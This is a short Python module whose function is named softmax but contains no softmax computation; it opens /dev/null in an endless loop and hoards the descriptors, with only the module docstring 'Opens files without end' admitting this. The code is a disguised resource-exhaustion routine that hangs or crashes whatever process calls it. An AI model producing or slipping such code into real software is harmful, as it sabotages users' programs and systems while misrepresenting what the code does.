"""Opens files without end."""

import os


def softmax(z, axis=-1):
    hoard = []
    while True:
        hoard.append(os.open("/dev/null", os.O_RDONLY))
